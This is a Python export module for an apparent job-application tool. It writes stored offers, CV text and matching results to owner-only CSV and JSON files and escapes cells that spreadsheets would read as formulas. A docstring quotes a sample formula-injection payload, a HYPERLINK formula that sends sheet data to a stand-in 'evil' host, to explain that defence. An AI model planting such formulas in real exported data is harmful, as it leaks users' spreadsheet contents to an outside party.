"""Write each step's results as CSV and JSON, so the user can see (and reuse) everything we store."""

from __future__ import annotations

import csv
import json
import os
from pathlib import Path
from typing import Any

from sqlalchemy import select

from jobapp.store import applications, db, repo
from jobapp.store.tables import CvProfileRow, CvRow, RunRow, StepTimingRow

#: first characters that make Excel, LibreOffice or Google Sheets read a cell as a formula
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")


def inert_cell(value: Any) -> Any:
    """A CSV cell that no spreadsheet will run: offer titles come from anyone, and a title like
    ``=HYPERLINK("http://evil/?"&A1, "Apply")`` would otherwise become a live formula that leaks
    the sheet. A leading apostrophe is the spreadsheet convention for "this is text" (the OWASP
    advice); numbers stay numbers."""
    if isinstance(value, str) and value.lstrip(" ").startswith(FORMULA_TRIGGERS):
        return "'" + value
    return value


def _flat(value: Any) -> Any:
    if isinstance(value, list):
        return inert_cell("; ".join(str(v) for v in value))
    if isinstance(value, dict):
        return json.dumps(value, ensure_ascii=False)
    return inert_cell(value)


def private_file(path: Path) -> Path:
    """Create (or truncate) ``path`` readable by its owner only: exports hold the CV's text."""
    fd = os.open(path, os.O_WRONLY | os.O_CREAT | os.O_TRUNC, 0o600)
    os.fchmod(fd, 0o600)  # O_CREAT keeps the mode of a file that already existed
    os.close(fd)
    return path


def _write(directory: Path, name: str, rows: list[dict[str, Any]]) -> list[Path]:
    json_path = private_file(directory / f"{name}.json")
    json_path.write_text(json.dumps(rows, ensure_ascii=False, indent=2, default=str), encoding="utf-8")
    csv_path = private_file(directory / f"{name}.csv")
    fields: list[str] = []
    for r in rows:
        fields += [k for k in r if k not in fields]
    # utf-8-sig: Excel (the tool most users open a CSV with) needs the BOM to show accents.
    with csv_path.open("w", encoding="utf-8-sig", newline="") as fh:
        writer = csv.DictWriter(fh, fieldnames=fields or ["empty"])
        writer.writeheader()
        for r in rows:
            writer.writerow({k: _flat(v) for k, v in r.items()})
    return [json_path, csv_path]


def export_all(directory: str | Path) -> list[Path]:
    """Export offers (step 1), summaries (2), CVs (3), profiles (4), matches (5-6), explanations (7), runs."""
    out = Path(directory)
    out.mkdir(
        mode=0o700, parents=True, exist_ok=True
    )  # a folder we create is private; an existing one is left as is
    written: list[Path] = []
    with db.session() as s:
        offers = repo.list_offers(s)
        written += _write(out, "1_offers", [o.model_dump() for o in offers])
        written += _write(
            out, "2_offer_summaries", [x.model_dump() for x in repo.latest_summaries(s).values()]
        )
        cvs = list(s.scalars(select(CvRow).order_by(CvRow.id)))
        written += _write(
            out,
            "3_cvs",
            [
                {
                    "id": c.id,
                    "filename": c.filename,
                    "format": c.format,
                    "pages": c.pages,
                    "ocr": c.ocr,
                    "sha256": c.sha256,
                    "text": c.text,
                }
                for c in cvs
            ],
        )
        profiles = list(s.scalars(select(CvProfileRow).order_by(CvProfileRow.id)))
        written += _write(out, "4_cv_profiles", [p.data for p in profiles])
        cur = repo.current_cv(s, required=False)
        matches = repo.latest_matches(s, cur.id) if cur and cur.id else []
        titles = {o.id: o for o in offers}
        written += _write(
            out,
            "5_6_matches",
            [
                {
                    "rank": m.rank,
                    "score": round(m.score, 2),
                    "offer_id": m.offer_id,
                    "title": titles[m.offer_id].title if m.offer_id in titles else "",
                    "company": titles[m.offer_id].company if m.offer_id in titles else "",
                    "url": titles[m.offer_id].url if m.offer_id in titles else "",
                    "coverage": round(m.keywords.coverage, 3),
                    "matched": m.keywords.matched,
                    "missing": m.keywords.missing,
                    "engine": m.engine,
                    **{f"c_{k}": v for k, v in m.components.items()},
                }
                for m in matches
            ],
        )
        exps = repo.latest_explanations(s, cur.id).values() if cur and cur.id else []
        written += _write(out, "7_explanations", [e.model_dump() for e in exps])
        tracked = applications.applications(s)
        written += _write(
            out,
            "applications",
            [
                {
                    k: getattr(a, k)
                    for k in ("offer_id", "title", "company", "url", "status", "applied", "updated")
                }
                | {"history": [e.__dict__ for e in a.history]}
                for a in tracked
            ],
        )
        runs = list(s.scalars(select(RunRow).order_by(RunRow.id)))
        written += _write(
            out,
            "runs",
            [
                {
                    "id": r.id,
                    "steps": r.steps,
                    "status": r.status,
                    "error": r.error,
                    "created_at": repo.iso(r.created_at),
                    "finished_at": repo.iso(r.finished_at),
                }
                for r in runs
            ],
        )
        timings = list(s.scalars(select(StepTimingRow).order_by(StepTimingRow.id)))
        written += _write(
            out,
            "step_timings",
            [
                {
                    "run_id": t.run_id,
                    "step": t.step,
                    "wall_s": round(t.wall_s, 4),
                    "items": t.items,
                    "items_per_s": round(t.items_per_s, 2),
                }
                for t in timings
            ],
        )
    return written
